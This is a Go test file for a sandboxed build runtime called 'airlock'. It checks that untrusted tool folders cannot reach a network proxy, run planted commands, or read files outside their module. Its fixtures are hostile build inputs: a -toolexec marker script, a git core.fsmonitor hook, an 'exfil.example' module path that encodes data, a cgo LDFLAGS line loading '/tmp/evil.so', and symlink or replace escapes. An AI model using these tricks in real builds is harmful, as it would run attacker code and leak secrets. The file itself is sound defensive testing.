package runtime_test

import (
	"context"
	"errors"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/airlockhq/airlock/policy"
	"github.com/airlockhq/airlock/runtime"
)

// writeFiles writes files (relative path → content) under dir.
func writeFiles(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, body := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		mode := os.FileMode(0o644)
		if strings.HasSuffix(name, ".sh") {
			mode = 0o755
		}
		if err := os.WriteFile(p, []byte(body), mode); err != nil {
			t.Fatal(err)
		}
	}
}

const helloMain = "package main\n\nfunc main() { println(\"hello\") }\n"

// proxyWitness is an HTTP server on 127.0.0.1 that counts the connections
// it accepts, standing in for a module proxy.
func proxyWitness(t *testing.T) (url string, accepts *atomic.Int64) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	accepts = new(atomic.Int64)
	srv := &http.Server{Handler: http.NotFoundHandler(), ConnState: func(_ net.Conn, st http.ConnState) {
		if st == http.StateNew {
			accepts.Add(1)
		}
	}}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return "http://" + ln.Addr().String(), accepts
}

// Building a Go tool folder is not a channel. Each row is a folder a
// hostile tool could have written; the host's environment is set the way
// that would let the build reach out: a module proxy that is a witness
// server, GOFLAGS that run a command of the tool's choosing for every
// compile (-toolexec) and let go.mod change, a `go env -w` file saying
// the same, automatic toolchain downloads, VCS stamping (which runs git,
// and git runs the repository's core.fsmonitor command). Whatever the
// row, the witness accepts nothing and no marker command runs.
func TestBuildAttackGoFolderReachesNothing(t *testing.T) {
	base := t.TempDir()
	proxy, accepts := proxyWitness(t)
	marker := filepath.Join(base, "marker")
	writeFiles(t, base, map[string]string{
		"bin/mark.sh":  "#!/bin/sh\necho ran >> " + marker + "\n[ $# -gt 0 ] && exec \"$@\"\nexit 0\n",
		"goenv/go.env": "GOFLAGS=-toolexec=" + filepath.Join(base, "bin/mark.sh") + "\nGOPROXY=" + proxy + "\n",
	})
	t.Setenv("GOPROXY", proxy)
	t.Setenv("GOFLAGS", "-mod=mod -buildvcs=true -toolexec="+filepath.Join(base, "bin/mark.sh"))
	t.Setenv("GOENV", filepath.Join(base, "goenv/go.env"))
	t.Setenv("GOSUMDB", "off")
	t.Setenv("GONOSUMDB", "*")
	t.Setenv("GOTOOLCHAIN", "auto")
	t.Setenv("GOWORK", "")
	t.Setenv("HTTPS_PROXY", proxy)
	e := engine(t)

	for _, c := range []struct {
		name  string
		files map[string]string
		// git makes the folder a git repository whose fsmonitor runs the marker.
		git bool
		// wantErr is part of the error; "" means the build succeeds.
		wantErr string
		// missing is the command a *MissingModuleError names, if any.
		missing string
	}{
		{name: "a required module that is not on this machine", files: map[string]string{
			"go.mod":  "module example.com/t\n\ngo 1.22\n\nrequire exfil.example/c2VjcmV0 v1.0.0\n",
			"go.sum":  "exfil.example/c2VjcmV0 v1.0.0 h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\nexfil.example/c2VjcmV0 v1.0.0/go.mod h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n",
			"main.go": "package main\n\nimport _ \"exfil.example/c2VjcmV0\"\n\nfunc main() {}\n",
		}, missing: "go mod download", wantErr: `it needs "exfil.example/c2VjcmV0@v1.0.0", which is not on this machine`},
		{name: "an import no module provides", files: map[string]string{
			"go.mod":  "module example.com/t\n\ngo 1.22\n",
			"main.go": "package main\n\nimport _ \"exfil.example/ZGF0YQ/pkg\"\n\nfunc main() {}\n",
		}, missing: "go mod tidy", wantErr: `"exfil.example/ZGF0YQ/pkg"`},
		{name: "a go line that needs a newer toolchain", files: map[string]string{
			"go.mod":  "module example.com/t\n\ngo 1.999\n",
			"main.go": helloMain,
		}, wantErr: "requires Go 1.999 and this machine has Go"},
		{name: "a toolchain line", files: map[string]string{
			"go.mod":  "module example.com/t\n\ngo 1.999\n\ntoolchain go1.999.1\n",
			"main.go": helloMain,
		}, wantErr: "airlock never downloads a Go toolchain"},
		{name: "a go.work above the folder", files: map[string]string{
			"../go.work": "go 1.999\n\nuse ./tool\n",
			"go.mod":     "module example.com/t\n\ngo 1.22\n",
			"main.go":    helloMain,
		}},
		{name: "a cgo file", files: map[string]string{
			"go.mod":  "module example.com/t\n\ngo 1.22\n",
			"main.go": helloMain,
			"cgo.go":  "package main\n\n// #cgo LDFLAGS: -fplugin=/tmp/evil.so\nimport \"C\"\n",
		}},
		{name: "a git repository (VCS stamping runs git)", git: true, files: map[string]string{
			"go.mod":  "module example.com/t\n\ngo 1.22\n",
			"main.go": helloMain,
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			dir := filepath.Join(t.TempDir(), "tool")
			writeFiles(t, dir, c.files)
			if c.git {
				if _, err := exec.LookPath("git"); err != nil {
					t.Skip("git is not installed")
				}
				for _, args := range [][]string{{"init", "-q"}, {"config", "core.fsmonitor", filepath.Join(base, "bin/mark.sh")},
					{"add", "."}, {"-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "x"}} {
					cmd := exec.Command("git", args...)
					cmd.Dir = dir
					if out, err := cmd.CombinedOutput(); err != nil {
						t.Fatalf("git %v: %v %s", args, err, out)
					}
				}
				os.Remove(marker) // git's own commit may have run it
			}
			before := accepts.Load()
			_, err := e.Load(context.Background(), dir)
			if n := accepts.Load() - before; n != 0 {
				t.Errorf("the witness proxy accepted %d connections", n)
			}
			if b, err := os.ReadFile(marker); err == nil {
				os.Remove(marker)
				t.Errorf("a command the folder chose ran during the build: %q", b)
			}
			switch {
			case c.wantErr == "" && err != nil:
				t.Fatalf("build failed: %v", err)
			case c.wantErr != "" && (err == nil || !strings.Contains(err.Error(), c.wantErr)):
				t.Fatalf("error %v\nwant it to contain %q", err, c.wantErr)
			}
			if err != nil && strings.Contains(err.Error(), "\n") {
				t.Errorf("the error is not one line: %q", err)
			}
			var mm *runtime.MissingModuleError
			if got := errors.As(err, &mm); got != (c.missing != "") || (got && mm.Command != c.missing) {
				t.Errorf("error %v: want a MissingModuleError naming %q", err, c.missing)
			}
			if c.missing != "" && !strings.Contains(err.Error(), "`cd "+dir+" && "+c.missing+"`") {
				t.Errorf("error %q does not name the command to run", err)
			}
		})
	}
}

// A tool folder that a tool could have written (Untrusted) builds nothing
// from folders outside its module and the module cache: a replace
// directive pointing out, or a package folder or source file that is a
// symlink leading out, is refused, by the real location. The person's own
// folder (not Untrusted) and a vendored module build.
func TestBuildUntrustedReadsNothingOutsideModule(t *testing.T) {
	base := t.TempDir()
	writeFiles(t, base, map[string]string{
		"private/go.mod":     "module example.com/private\n\ngo 1.22\n",
		"private/p.go":       "package private\n\nconst Secret = \"from outside the mount\"\n",
		"tool/go.mod":        "module example.com/t\n\ngo 1.22\n\nrequire example.com/private v0.0.0\n\nreplace example.com/private => ../private\n",
		"tool/main.go":       "package main\n\nimport \"example.com/private\"\n\nfunc main() { println(private.Secret) }\n",
		"outsidepkg/p.go":    "package linked\n\nconst Secret = \"from outside the mount\"\n",
		"tool/inside/go.mod": "module example.com/private\n\ngo 1.22\n",
		"tool/inside/p.go":   "package private\n\nconst Secret = \"inside\"\n",
	})
	if err := os.Symlink(filepath.Join(base, "private"), filepath.Join(base, "tool", "link")); err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(base, "tool")
	e := engine(t)
	ctx := context.Background()
	for _, target := range []string{"../private", filepath.Join(base, "private"), "./link"} {
		gomod := "module example.com/t\n\ngo 1.22\n\nrequire example.com/private v0.0.0\n\nreplace example.com/private => " + target + "\n"
		writeFiles(t, dir, map[string]string{"go.mod": gomod})
		_, err := e.LoadWith(ctx, dir, runtime.LoadOptions{Untrusted: true})
		if err == nil || !strings.Contains(err.Error(), "outside the module") || !strings.Contains(err.Error(), "go mod vendor") {
			t.Fatalf("replace => %s: error %v, want a refusal", target, err)
		}
		if _, err := e.Load(ctx, dir); err != nil {
			t.Fatalf("replace => %s, the person's own folder: %v", target, err)
		}
	}
	writeFiles(t, dir, map[string]string{"go.mod": "module example.com/t\n\ngo 1.22\n\nrequire example.com/private v0.0.0\n\nreplace example.com/private => ./inside\n"})
	if _, err := e.LoadWith(ctx, dir, runtime.LoadOptions{Untrusted: true}); err != nil {
		t.Fatalf("replace inside the module: %v", err)
	}
	// Symlinks a tool could plant: a package folder, a source file.
	for name, link := range map[string]struct{ target, main string }{
		"a package folder": {filepath.Join(base, "outsidepkg"), "package main\n\nimport \"example.com/t/linked\"\n\nfunc main() { println(linked.Secret) }\n"},
		"a source file":    {filepath.Join(base, "private", "p.go"), "package main\n\nfunc main() {}\n"},
	} {
		sdir := filepath.Join(t.TempDir(), "tool")
		writeFiles(t, sdir, map[string]string{"go.mod": "module example.com/t\n\ngo 1.22\n", "main.go": link.main})
		linkName := "linked"
		if name == "a source file" {
			writeFiles(t, base, map[string]string{"private/p.go": "package main\n\nconst Secret = \"from outside the mount\"\n"})
			linkName = "secret.go"
		}
		if err := os.Symlink(link.target, filepath.Join(sdir, linkName)); err != nil {
			t.Fatal(err)
		}
		_, err := e.LoadWith(ctx, sdir, runtime.LoadOptions{Untrusted: true})
		if err == nil || !strings.Contains(err.Error(), "outside the module and the module cache") || !strings.Contains(err.Error(), link.target) {
			t.Fatalf("%s linked out: error %v, want a refusal", name, err)
		}
		if _, err := e.Load(ctx, sdir); err != nil {
			t.Fatalf("%s linked out, the person's own folder: %v", name, err)
		}
		writeFiles(t, base, map[string]string{"private/p.go": "package private\n\nconst Secret = \"from outside the mount\"\n"})
	}
	// Vendored: the replaced folder is not read at all.
	writeFiles(t, dir, map[string]string{
		"go.mod":                          "module example.com/t\n\ngo 1.22\n\nrequire example.com/private v0.0.0\n\nreplace example.com/private => ../gone\n",
		"vendor/modules.txt":              "# example.com/private v0.0.0 => ../gone\n## explicit; go 1.22\nexample.com/private\n# example.com/private => ../gone\n",
		"vendor/example.com/private/p.go": "package private\n\nconst Secret = \"vendored\"\n",
	})
	if _, err := e.LoadWith(ctx, dir, runtime.LoadOptions{Untrusted: true}); err != nil {
		t.Fatalf("vendored: %v", err)
	}
}

// What of a build a tool can change is found by real host location, in
// both directions, outside protected paths.
func TestBuildExposures(t *testing.T) {
	base := t.TempDir()
	proj := filepath.Join(base, "proj")
	writeFiles(t, proj, map[string]string{
		"tools/x/go.mod":           "module example.com/x\n\ngo 1.22\n",
		"tools/x/main.go":          helloMain,
		".airlock/tools/y/go.mod":  "module example.com/y\n\ngo 1.22\n",
		".airlock/tools/y/main.go": helloMain,
	})
	if err := os.Symlink(proj, filepath.Join(base, "projlink")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(proj, "tools", "x"), filepath.Join(base, "xlink")); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command("go", "env", "GOROOT").Output()
	if err != nil {
		t.Fatal(err)
	}
	goroot := strings.TrimSpace(string(out))
	realX, _ := filepath.EvalSymlinks(filepath.Join(proj, "tools", "x"))

	mount := func(host string, access policy.Access) *policy.Policy {
		p := policy.Default(host)
		p.Mounts[0].Access = access
		return p
	}
	e := engine(t)
	for _, c := range []struct {
		name      string
		dir       string
		pol       *policy.Policy
		want      string // the What of the first exposure; "" for none
		toolchain bool
	}{
		{"the folder inside a write mount", filepath.Join(proj, "tools/x"), mount(proj, policy.Write), "the tool folder", false},
		{"the folder inside a read mount", filepath.Join(proj, "tools/x"), mount(proj, policy.Read), "", false},
		{"the folder under a protected path (.airlock)", filepath.Join(proj, ".airlock/tools/y"), mount(proj, policy.Write), "", false},
		{"the mount's host is a symlink to the project", filepath.Join(proj, "tools/x"), mount(filepath.Join(base, "projlink"), policy.Write), "the tool folder", false},
		{"the folder is named through a symlink from outside", filepath.Join(base, "xlink"), mount(proj, policy.Write), "the tool folder", false},
		{"a write mount inside the folder", filepath.Join(proj, "tools/x"), mount(filepath.Join(proj, "tools/x"), policy.Write), "the tool folder", false},
		{"a write mount elsewhere", filepath.Join(proj, "tools/x"), mount(t.TempDir(), policy.Write), "", false},
		{"GOROOT inside a write mount", filepath.Join(proj, "tools/x"), mount(goroot, policy.Write), "the go command", true},
	} {
		t.Run(c.name, func(t *testing.T) {
			xs, err := e.BuildExposures(context.Background(), c.dir, c.pol)
			if err != nil {
				t.Fatal(err)
			}
			if c.want == "" {
				if len(xs) != 0 {
					t.Fatalf("exposures %v, want none", xs)
				}
				return
			}
			if len(xs) == 0 || xs[0].What != c.want || xs[0].Toolchain != c.toolchain {
				t.Fatalf("exposures %+v, want %q first", xs, c.want)
			}
			if c.want == "the tool folder" && xs[0].Path != realX {
				t.Errorf("path %s, want the real location %s", xs[0].Path, realX)
			}
		})
	}
	// A .wasm file has none.
	if xs, err := e.BuildExposures(context.Background(), filepath.Join(proj, "tools/x/main.go"), mount(proj, policy.Write)); err != nil || len(xs) != 0 {
		t.Fatalf("a file: %v %v", xs, err)
	}
}
